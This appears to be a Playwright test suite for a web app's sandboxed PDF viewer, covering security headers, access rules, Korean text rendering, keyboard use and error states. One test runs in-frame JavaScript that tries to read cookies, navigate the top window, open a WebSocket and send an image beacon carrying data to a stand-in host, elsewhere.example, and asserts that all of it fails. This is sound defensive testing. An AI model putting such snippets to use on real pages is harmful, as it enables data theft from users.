"""A PDF on screen: shown in a frame that is shut off from everything, read, searched and gone through by keyboard."""

from typing import Any

import pytest
from django.contrib.staticfiles.handlers import StaticFilesHandler
from django.http import HttpResponseBase
from django.test import RequestFactory
from playwright.sync_api import Frame, Page, Route, expect
from whitenoise.middleware import WhiteNoiseMiddleware

from madang.apps.accounts.commands import actor_of
from madang.apps.applications.commands import keep_file
from madang.apps.applications.models import DraftFile
from madang.kernel import files
from madang.web import pdf_frame
from tests.factories.applying import begun
from tests.factories.people import person
from tests.factories.rich import rich_call
from tests.web.apply_parts import session_of, signed_in
from tests.web.pdf_samples import DAMAGED, hostile, korean, locked, without_fonts

pytestmark = pytest.mark.django_db


def attached(content: bytes, name: str = "계획서.pdf") -> DraftFile:
    """In a draft, without being looked at first: what the door refuses today may lie here from earlier."""
    draft = begun(rich_call(), by=person("aram"))
    given = {"actor": actor_of(draft.started_by), "draft": draft, "key": "documents.plan", "name": name}
    file: DraftFile = keep_file(**given, kept=files.keep(content), format="pdf")
    return file


def address(file: DraftFile) -> str:
    return f"/applications/{file.draft.uid}/files/{file.uid}/view"


@pytest.fixture(autouse=True)
def _static_files_with_their_header(monkeypatch: pytest.MonkeyPatch) -> None:
    """The test server serves static files by Django's own handler. The site's whitenoise lets pages of every origin
    read them (a test below asks it), without which a page that has no origin could not load its modules.
    """
    served = StaticFilesHandler.serve

    def serve(self: StaticFilesHandler, request: Any) -> HttpResponseBase:
        answer: HttpResponseBase = served(self, request)
        answer["Access-Control-Allow-Origin"] = "*"
        return answer

    monkeypatch.setattr(StaticFilesHandler, "serve", serve)


def look(visit: Any, live_server: Any, file: DraftFile, **choices: Any) -> Page:
    page: Page = visit(address(file), storage_state=session_of(file.draft.started_by, live_server), **choices)
    return page


def shown(page: Page) -> Frame:
    """The frame, once its first page is there with its text."""
    page.locator("[data-pdf][data-state=shown]").wait_for()
    frame = page.frames[1]
    frame.locator("[data-page='1'] canvas").wait_for()
    frame.locator("[data-page='1'] .p-text:not(.p-plain)").wait_for()
    return frame


# --- What the site says ----------------------------------------------------------------------------------------------


def test_the_frame_has_no_origin_and_no_line_to_anywhere(client: Any) -> None:
    answer = client.get("/pdf-frame", headers={"host": "localhost"})
    policy = dict(part.strip().partition(" ")[::2] for part in answer["Content-Security-Policy"].split(";"))
    assert policy["sandbox"] == "allow-scripts"
    assert policy["default-src"] == policy["connect-src"] == policy["form-action"] == "'none'"
    assert policy["script-src"] == "'self'"
    assert policy["frame-ancestors"] == "'self'"
    assert answer["X-Frame-Options"] == "SAMEORIGIN"
    assert not answer.cookies


def test_only_the_page_of_a_document_may_hold_a_frame_and_only_of_this_site() -> None:
    file = attached(korean())
    client = signed_in(file.draft.started_by)
    page = client.get(address(file))
    assert "frame-src 'self'" in page["Content-Security-Policy"]
    assert "frame-ancestors 'none'" in page["Content-Security-Policy"]
    assert "frame-src" not in client.get("/applications")["Content-Security-Policy"]


def test_the_file_itself_is_never_shown_by_the_site() -> None:
    file = attached(korean())
    answer = signed_in(file.draft.started_by).get(address(file).removesuffix("/view"))
    assert answer["Content-Type"] == "application/octet-stream"
    assert answer["Content-Disposition"].startswith("attachment;")
    assert answer["Content-Security-Policy"] == "sandbox"
    assert answer["X-Content-Type-Options"] == "nosniff"


def test_who_may_not_read_the_draft_finds_nothing_and_other_formats_are_not_shown() -> None:
    file = attached(korean())
    assert signed_in(person("stranger")).get(address(file)).status_code == 404
    file.format = "hwpx"
    file.save()
    assert signed_in(file.draft.started_by).get(address(file)).status_code == 404


def test_a_very_large_document_is_only_downloaded() -> None:
    file = attached(korean())
    file.size_bytes = pdf_frame.LARGEST + 1
    file.save()
    html = signed_in(file.draft.started_by).get(address(file)).content.decode()
    assert "too large to be shown here" in html
    assert "<iframe" not in html


@pytest.mark.parametrize("path", ["js/pdf-frame.js", "vendor/pdfjs/pdf.worker.min.mjs"])
def test_pages_without_origin_may_load_our_static_files(path: str, settings: Any) -> None:
    settings.WHITENOISE_USE_FINDERS = settings.WHITENOISE_AUTOREFRESH = True
    answer = WhiteNoiseMiddleware(lambda _: None)(RequestFactory().get(f"/static/{path}"))
    assert answer["Access-Control-Allow-Origin"] == "*"
    assert answer["Content-Type"].startswith("text/javascript")
    answer.close()


# --- In a browser ----------------------------------------------------------------------------------------------------


@pytest.mark.browser
def test_a_korean_document_is_drawn_read_and_searched(visit: Any, live_server: Any, axe: Any) -> None:
    file = attached(korean(3))
    page = look(visit, live_server, file, language="ko")
    frame = shown(page)
    assert frame.evaluate("document.querySelector('canvas').getContext('2d').getImageData(0, 0, 9, 9).data[3]") == 255
    dark = "c => { const {width: w, height: h} = c, d = c.getContext('2d').getImageData(0, 0, w, h).data;"
    dark += " return d.some((v, i) => i % 4 === 0 && v < 60) }"
    assert frame.locator("[data-page='1'] canvas").evaluate(dark), "letters are drawn"
    expect(frame.locator("[data-page='1'] .p-text")).to_contain_text("밤길의 소음을 줄이고 걷기 좋은 거리를 만듭니다.")
    frame.locator("body[data-read=all]").wait_for()
    expect(frame.locator("[data-page='3']")).to_contain_text("사업계획서 3쪽")
    assert frame.evaluate("find('사업계획서 2쪽')"), "the browser's search finds what nobody has seen yet"
    expect(page.locator("[data-pdf-state]")).to_be_empty()
    expect(frame.get_by_role("button", name="다음 쪽")).to_be_visible()
    assert axe(page) == []
    assert axe(frame) == []


@pytest.mark.browser
def test_letters_by_a_named_character_map_are_known(visit: Any, live_server: Any) -> None:
    page = look(visit, live_server, attached(without_fonts()), language="ko")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.reload()
    frame = shown(page)
    expect(frame.locator("[data-page='1'] .p-text")).to_contain_text("한국어 문서")
    assert [url for url in asked if "/cmaps/" in url and url.endswith("KSCms-UHC-H.bcmap")]
    assert [url for url in asked if url.endswith("FoxitDingbats.pfb")]


@pytest.mark.browser
def test_by_keyboard_on_a_phone(visit: Any, live_server: Any, axe: Any) -> None:
    page = look(visit, live_server, attached(korean(12)), language="en", width=390, mode="high-contrast")
    frame = shown(page)
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert frame.evaluate("document.documentElement.scrollWidth <= innerWidth")
    page.get_by_role("link", name="Download").focus()
    page.keyboard.press("Tab")  # into the frame, which is a process of its own
    frame.locator("[data-do=previous]:focus").wait_for()
    page.keyboard.press("Tab")
    number = frame.get_by_label("Page 1 of 12").and_(frame.locator("input:focus"))
    number.wait_for()
    number.fill("7")
    page.keyboard.press("Enter")
    frame.locator("[data-page='7'] canvas").wait_for()
    expect(frame.locator("[data-page='1'] canvas")).to_have_count(0)
    frame.locator("[data-pages]").focus()
    page.keyboard.press("PageDown")
    expect(frame.locator("input")).to_have_value("8")
    page.keyboard.press("End")
    expect(frame.locator("input")).to_have_value("12")
    page.keyboard.press("Home")
    expect(frame.locator("input")).to_have_value("1")
    fitting = frame.locator("[data-zoom]").inner_text()
    page.keyboard.press("+")
    expect(frame.locator("[data-zoom]")).to_have_text("50 %")
    expect(frame.get_by_role("button", name="Fit to width")).to_have_attribute("aria-pressed", "false")
    page.keyboard.press("0")
    expect(frame.locator("[data-zoom]")).to_have_text(fitting)
    assert axe(page) == []
    assert axe(frame) == []


@pytest.mark.browser
def test_two_hundred_pages_are_drawn_as_they_are_seen(visit: Any, live_server: Any) -> None:
    page = look(visit, live_server, attached(korean(200)), language="en")
    frame = shown(page)
    expect(frame.locator("[data-of]")).to_have_text("/ 200")
    assert frame.locator("canvas").count() < 8
    frame.locator("[data-pages]").evaluate("box => { box.scrollTop = box.scrollHeight / 2 }")
    frame.locator("[data-page='100'] canvas").wait_for()
    frame.locator("body[data-read=all]").wait_for()
    expect(frame.locator("[data-page='200']")).to_contain_text("200쪽")
    assert frame.locator("canvas").count() < 8


@pytest.mark.browser
def test_a_hostile_document_reaches_nothing(visit: Any, live_server: Any) -> None:
    page = look(visit, live_server, attached(hostile()), language="en")
    asked: list[str] = []
    page.context.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(dialog.message))
    before = page.url
    frame = shown(page)
    expect(frame.locator("[data-page='1'] .p-text")).to_contain_text("Press anywhere")
    frame.locator("[data-page='1']").click()
    frame.locator("[data-page='1']").click(position={"x": 60, "y": 300})
    assert frame.locator("a, input:not([data-page]), button:not([data-do]), iframe, object, embed").count() == 0
    assert page.url == before
    assert [one for one in asked if "elsewhere" in one or one == "here"] == []


@pytest.mark.browser
def test_a_program_that_took_the_frame_over_would_reach_nothing(chromium: Any, live_server: Any) -> None:
    file = attached(korean())
    context = chromium.new_context(storage_state=session_of(file.draft.started_by, live_server))
    page = context.new_page()
    page.goto(live_server.url + address(file))
    frame = shown(page)
    left: list[str] = []
    context.route("https://elsewhere.example/**", lambda route: left.append(route.request.url) or route.abort())
    assert frame.evaluate("self.origin") == "null"
    tried = """async () => {
        const tried = {
            cookie: () => document.cookie, storage: () => localStorage.length, database: () => indexedDB.open("x"),
            page: () => parent.document.title, top: () => { top.location = "https://elsewhere.example/"; },
            opened: () => { if (!open("https://elsewhere.example/")) throw 0; },
            line: () => fetch("/applications"), file: () => fetch(document.body.dataset.core),
            socket: () => new WebSocket("wss://elsewhere.example/").url && Promise.reject(),
        };
        const through = [];
        for (const [name, act] of Object.entries(tried)) {
            try { await act(); through.push(name); } catch { /* as it should be */ }
        }
        const picture = new Image();
        picture.src = "https://elsewhere.example/?what=it-read";
        await new Promise((resolve) => { picture.onerror = resolve; });
        return through;
    }"""
    assert frame.evaluate(tried) == []
    frame.evaluate("location = 'https://elsewhere.example/'")
    frame.wait_for_url("chrome-error://**")
    assert left == [], "no request has left the browser"
    assert page.url == live_server.url + address(file)
    context.close()


@pytest.mark.browser
def test_the_frame_listens_once_and_to_the_page_around_it_alone(visit: Any, live_server: Any) -> None:
    page = look(visit, live_server, attached(korean(2)), language="en")
    frame = shown(page)
    again = "new MessageChannel().port1 && document.querySelector('iframe').contentWindow.postMessage("
    page.evaluate(again + "{pdf: 'show', bytes: new ArrayBuffer(8)}, '*', [new MessageChannel().port2])")
    frame.evaluate("postMessage({pdf: 'show', bytes: new ArrayBuffer(8)}, '*', [new MessageChannel().port2])")
    frame.evaluate("new Promise((resolve) => setTimeout(resolve))")  # both have arrived
    expect(frame.locator("[data-of]")).to_have_text("/ 2")
    assert frame.locator(".p-page").count() == 2


@pytest.mark.browser
@pytest.mark.parametrize(
    ("content", "words"),
    [(DAMAGED, "damaged"), (locked(), "protected by a password")],
    ids=["damaged", "password"],
)
def test_what_cannot_be_shown_says_so(visit: Any, live_server: Any, content: bytes, words: str) -> None:
    page = look(visit, live_server, attached(content), language="en")
    expect(page.locator("[data-pdf-state]")).to_contain_text(words)
    expect(page.locator("iframe")).to_be_hidden()
    expect(page.get_by_role("link", name="Download")).to_be_visible()


@pytest.mark.browser
def test_a_lost_line_and_a_browser_without_workers(visit: Any, live_server: Any) -> None:
    file = attached(korean())
    page = look(visit, live_server, file, language="en", also=(503,))
    page.add_init_script("delete self.Worker")
    page.reload()
    shown(page)

    def broken(route: Route) -> None:
        route.fulfill(status=503)

    page.route(f"**/files/{file.uid}", broken)
    page.reload()
    expect(page.locator("[data-pdf-state]")).to_contain_text("did not arrive")


@pytest.mark.browser
def test_without_script_there_is_a_sentence_and_the_download(visit: Any, live_server: Any) -> None:
    page = look(visit, live_server, attached(korean()), language="ko", width=390, script=False)
    expect(page.locator("main")).to_contain_text("자바스크립트가 필요하지만")
    expect(page.locator("iframe")).to_be_hidden()
    with page.expect_download() as got:
        page.get_by_role("link", name="내려받기").click()
    assert got.value.suggested_filename == "계획서.pdf"


@pytest.mark.browser
def test_the_form_leads_to_it(visit: Any, live_server: Any) -> None:
    file = attached(korean())
    home = session_of(file.draft.started_by, live_server)
    page = visit(f"/applications/{file.draft.uid}/documents", language="en", storage_state=home)
    page.get_by_role("link", name="View").click()
    shown(page)
    page.get_by_role("link", name="City of Aram").click()
    page.wait_for_selector("[data-form][data-ready]")
